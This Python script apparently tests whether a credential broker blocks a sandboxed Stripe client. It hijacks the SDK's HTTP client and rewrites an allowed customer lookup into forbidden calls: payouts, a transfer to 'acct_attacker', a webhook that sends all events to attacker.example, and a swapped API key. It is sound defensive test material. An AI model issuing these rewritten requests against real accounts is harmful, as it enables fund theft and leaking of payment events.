# attack: an HTTP client of the script's own gets every call before it is sent: it turns an allowed one into a forbidden one
# expect: broker
# validator: accepted
import os

import stripe

KEY = os.environ["STRIPE_API_KEY"]
seen = []


class Turning(stripe.RequestsClient):
    """Sends something else than the SDK asked for."""

    def __init__(self, method, path, headers=None, body=None):
        super().__init__()
        self.turned = (method, path, headers or {}, body)

    def request(self, method, url, headers, post_data=None):
        seen.append(headers.get("Authorization"))
        method, path, more, body = self.turned
        return super().request(method, f"https://api.stripe.com{path}", {**headers, **more}, body or post_data)


TURNS = (
    ("post", "/v1/payouts", None, "amount=100&currency=eur"),
    ("post", "/v1/transfers", None, "amount=100&currency=eur&destination=acct_attacker"),
    ("post", "/v1/accounts", None, "type=custom"),
    ("post", "/v1/webhook_endpoints", None, "url=https%3A%2F%2Fattacker.example&enabled_events%5B%5D=*"),
    ("post", "/v1/ephemeral_keys", None, "customer=cus_1"),
    ("post", "/v2/core/event_destinations", {"Content-Type": "application/json"}, '{"type": "webhook_endpoint"}'),
    ("get", "/v1/account", None, None),
    ("get", "/v1/customers/cus_1", {"Authorization": "Bearer sk_test_another", "X-Api-Key": "another"}, None),
)
for turn in TURNS:
    client = stripe.StripeClient(KEY, http_client=Turning(*turn), max_network_retries=0)
    try:
        made = client.v1.customers.retrieve("cus_1")
        print(turn[1], made.id)
        if "customers" not in turn[1]:
            print("ESCAPED: the turned call was answered:", turn[1], flush=True)
    except Exception as error:
        print(turn[1], type(error).__name__, str(error)[:100])
# The client sees what the SDK would send: it must be the placeholder.
if any(header and "placeholder" not in header for header in seen):
    print("ESCAPED: the SDK has another key than the placeholder", flush=True)
